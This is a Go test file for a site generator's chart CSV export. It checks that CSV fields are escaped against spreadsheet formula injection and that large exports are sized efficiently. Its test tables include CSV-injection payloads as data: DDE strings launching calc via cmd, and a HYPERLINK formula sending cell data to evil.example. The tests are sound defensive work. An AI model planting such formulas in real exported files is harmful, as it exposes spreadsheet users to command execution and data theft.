package chart

import (
	"encoding/csv"
	"fmt"
	"math"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/scalesite/scalesite/internal/sitetest"
	"github.com/scalesite/scalesite/internal/synth"
	"github.com/scalesite/scalesite/site"
)

// BenchmarkChartCSV writes the CSV of a chart of 3 lines × 20,000 points.
func BenchmarkChartCSV(b *testing.B) {
	var data strings.Builder
	data.WriteString("run,step,loss\n")
	for _, run := range []string{"a", "b", "c"} {
		for i := 1; i <= 20000; i++ {
			fmt.Fprintf(&data, "%s,%d,%.6g\n", run, i, 2+10/float64(i))
		}
	}
	s, err := site.Load(sitetest.New(b, map[string]string{
		"content/long.md":  "---\ntitle: Long\n---\n```chart\ndata: long.csv\nx: {field: step, scale: log}\ny: {field: loss, scale: log}\nseries: run\n```\n",
		"content/long.csv": data.String(),
	}), site.Options{})
	if err != nil {
		b.Fatal(err)
	}
	c := s.Body(s.Pages[0]).Charts[0]
	b.ReportAllocs()
	var n int
	for b.Loop() {
		n = len(CSV(c))
	}
	b.SetBytes(int64(n))
}

// TestAppendCSVField: fields are written as encoding/csv writes them
// (those a spreadsheet would run are TestAppendCSVFieldFormulas').
func TestAppendCSVField(t *testing.T) {
	for _, f := range []string{"", "plain", "a,b", `say "hi"`, " lead", "line\nbreak", "cr\rx", `\.`, "ünï", "<b>", "1=2", "a-b", "e@mail", "-1.5", "+3", "-1e-9", "'quoted"} {
		var want strings.Builder
		w := csv.NewWriter(&want)
		w.Write([]string{f})
		w.Flush()
		if got := string(appendCSVField(nil, f)) + "\n"; got != want.String() {
			t.Errorf("appendCSVField(%q) = %q, encoding/csv writes %q", f, got, want.String())
		}
	}
}

// TestAppendCSVFieldFormulas: a field a spreadsheet would run as a formula
// is written as text, a single quote in front and quoted (OWASP's advice
// on CSV injection); numbers are left as they are.
func TestAppendCSVFieldFormulas(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+2", `"'=1+2"`},
		{`=HYPERLINK("https://evil.example/?d="&A1, "click")`, `"'=HYPERLINK(""https://evil.example/?d=""&A1, ""click"")"`},
		{"=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`},
		{"+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`},
		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`},
		{"@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`},
		{"\tx", "\"'\tx\""},
		{"\r=1", "\"'\r=1\""},
		{"\x00=1", "\"'\x00=1\""},
		{" =1+2", `"' =1+2"`},
		{"\n@SUM(A1)", "\"'\n@SUM(A1)\""},
		{"\u200b=1+2", "\"'\u200b=1+2\""},
		{"＝1+2", `"'＝1+2"`},
		{"－1+2", `"'－1+2"`},
		{"-", `"'-"`},
		{"-inf", `"'-inf"`},
		{"+0x1p3", `"'+0x1p3"`},
		{"-1.5", "-1.5"},
		{"+3", "+3"},
		{"-1e-9", "-1e-9"},
		{"-1E+300", "-1E+300"},
		{"-.5", "-.5"},
	} {
		if got := string(appendCSVField(nil, tc.in)); got != tc.want {
			t.Errorf("appendCSVField(%q) = %s, want %s", tc.in, got, tc.want)
		}
	}
}

// FuzzAppendCSVField checks that any field reads back from the CSV as
// itself, or as itself with a single quote in front when a spreadsheet
// would have run it, and that what is read back never runs.
func FuzzAppendCSVField(f *testing.F) {
	for _, s := range []string{"", "=1+2", "-1.5", " @x", "\t", "a,\"b\"\n", "＝", "\u200b-x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) || strings.ContainsRune(s, '\r') {
			return // encoding/csv reads invalid UTF-8 and \r\n otherwise than they are written
		}
		rows, err := csv.NewReader(strings.NewReader("x," + string(appendCSVField(nil, s)) + "\n")).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("appendCSVField(%q) does not read back as one field: %v %q", s, err, rows)
		}
		got := rows[0][1]
		if got != s && got != "'"+s {
			t.Fatalf("appendCSVField(%q) reads back as %q", s, got)
		}
		if formulaLike(got) {
			t.Fatalf("appendCSVField(%q) reads back as %q, which a spreadsheet runs", s, got)
		}
	})
}

// TestAppendCSVNumber: the fast path writes what appendNumber writes.
func TestAppendCSVNumber(t *testing.T) {
	for _, v := range []float64{0, math.Copysign(0, -1), 1, -1, 7, 999999, 1e6, -999999, 123456.5, 0.25, 1e18, 3e9, 1e-7, 20000} {
		if got, want := string(appendCSVNumber(nil, v)), string(appendNumber(nil, v)); got != want {
			t.Errorf("appendCSVNumber(%g) = %q, appendNumber writes %q", v, got, want)
		}
	}
}

// TestChartCSVFormulaCells writes the CSV of a chart whose column names, panel
// titles, series names and labels are formulas, and checks that a
// spreadsheet would read every cell of its CSV file as text: each holds
// the value with a single quote in front, and the numbers are unchanged.
func TestChartCSVFormulaCells(t *testing.T) {
	files := map[string]string{
		"scalesite.yaml":   "title: Lab\n",
		"content/index.md": "---\ntitle: Lab\n---\n",
		"content/p.md": "---\ntitle: P\n---\n```chart\ndata: f.csv\nx: \"=x\"\ny: \"@y\"\nseries: \"+s\"\nlabel: \"-l\"\n" +
			"panels:\n  - {title: \"=HYPERLINK(1)\"}\n  - {title: \"-2+3\"}\n```\n",
		"content/f.csv": `=x,@y,+s,-l` + "\n" +
			`1,-1.5,"=HYPERLINK(""https://evil.example/"")",+cmd|' /C calc'!A0` + "\n" +
			`2,-2,-1,-1e-9` + "\n" +
			`3,4,plain,@SUM(1+9)` + "\n",
	}
	s, err := site.Load(sitetest.New(t, files), site.Options{})
	if err != nil {
		t.Fatal(err)
	}
	text := string(CSV(s.Body(s.Pages[0]).Charts[0]))
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, text)
	}
	want := [][]string{
		{"panel", "'+s", "'=x", "'@y", "label"},
		{"'=HYPERLINK(1)", "'=HYPERLINK(\"https://evil.example/\")", "1", "-1.5", "'+cmd|' /C calc'!A0"},
		{"'=HYPERLINK(1)", "-1", "2", "-2", "-1e-9"},
		{"'=HYPERLINK(1)", "plain", "3", "4", "'@SUM(1+9)"},
		{"'-2+3", "'=HYPERLINK(\"https://evil.example/\")", "1", "-1.5", "'+cmd|' /C calc'!A0"},
		{"'-2+3", "-1", "2", "-2", "-1e-9"},
		{"'-2+3", "plain", "3", "4", "'@SUM(1+9)"},
	}
	if fmt.Sprint(rows) != fmt.Sprint(want) {
		t.Errorf("the CSV file reads\n%q\nwant\n%q\n%s", rows, want, text)
	}
	for _, row := range rows {
		for _, cell := range row {
			if formulaLike(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
}

// TestChartCSVSized: a chart's CSV file is made in one array of about
// its size (at most 10% over, and a few bytes), not reserved at twice it
// or grown by copying: a long log's, and the short charts of the
// synthetic site, whose every row csvSize once wrote twice.
func TestChartCSVSized(t *testing.T) {
	var long strings.Builder
	long.WriteString("run,step,loss\n")
	for _, run := range []string{"a", "bb", "ccc"} {
		for i := 1; i <= 20000; i++ {
			fmt.Fprintf(&long, "%s,%d,%.6g\n", run, i*37, 2+10/float64(i))
		}
	}
	logSite := sitetest.New(t, map[string]string{
		"content/long.md":  "---\ntitle: Long\n---\n```chart\ndata: long.csv\nx: step\ny: loss\nseries: run\n```\n",
		"content/long.csv": long.String(),
	})
	synthSite := t.TempDir()
	synth.Write(t, synthSite, 20, 40)
	tinySite := t.TempDir()
	synth.Write(t, tinySite, 1, 3)
	for _, dir := range []string{logSite, synthSite, tinySite} {
		s, err := site.Load(dir, site.Options{})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range s.Pages {
			for _, c := range s.Body(p).Charts {
				b := CSV(c)
				if float64(cap(b)) > 1.1*float64(len(b))+128 {
					t.Errorf("%s: a CSV of %d bytes in an array of %d", c.ID, len(b), cap(b))
				}
			}
		}
	}
}
